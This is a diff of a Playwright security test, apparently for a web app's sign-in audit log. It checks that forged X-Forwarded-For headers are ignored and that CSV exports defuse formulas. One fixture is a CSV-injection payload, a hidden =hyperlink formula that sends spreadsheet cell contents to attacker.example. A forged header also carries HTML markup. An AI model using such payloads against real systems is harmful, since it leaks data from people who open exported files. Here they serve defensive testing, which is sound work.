@@ -10,14 +10,22 @@ import { serveOrExit, spawnConsole } from "../support/spawn-console";
 // guard only looked at the first character; HTTP itself trims leading spaces from a header.
 const FORMULA_EMAIL = '\u200b=hyperlink("http://attacker.example/?"&a1,"open")';
 
-test("[SEC][ADDRESS] the audited client address is the socket's, not a forged X-Forwarded-For; CSV defuses a formula in a typed email", async ({ page, playwright }) => {
+test("[SEC][ADDRESS] the audited client address is the socket's, not a forged X-Forwarded-For; CSV defuses a formula in a typed email", async ({
+  page,
+  playwright,
+}) => {
   const email = uniqueEmail("forger");
   const attacker = await playwright.request.newContext({
     baseURL: E2E.appUrl,
-    extraHTTPHeaders: { "x-forwarded-for": "203.0.113.66, <b>not-an-address</b>", "x-handshake-peer-address": "198.51.100.7" },
+    extraHTTPHeaders: {
+      "x-forwarded-for": "203.0.113.66, <b>not-an-address</b>",
+      "x-handshake-peer-address": "198.51.100.7",
+    },
   });
   expect(await signInOverHttp(attacker, { email, password: "wrong-password-123" })).toMatchObject({ ok: false });
-  expect(await signInOverHttp(attacker, { email: FORMULA_EMAIL, password: "wrong-password-123" })).toMatchObject({ ok: false });
+  expect(await signInOverHttp(attacker, { email: FORMULA_EMAIL, password: "wrong-password-123" })).toMatchObject({
+    ok: false,
+  });
   await attacker.dispose();
 
   await signInAsAdmin(page);
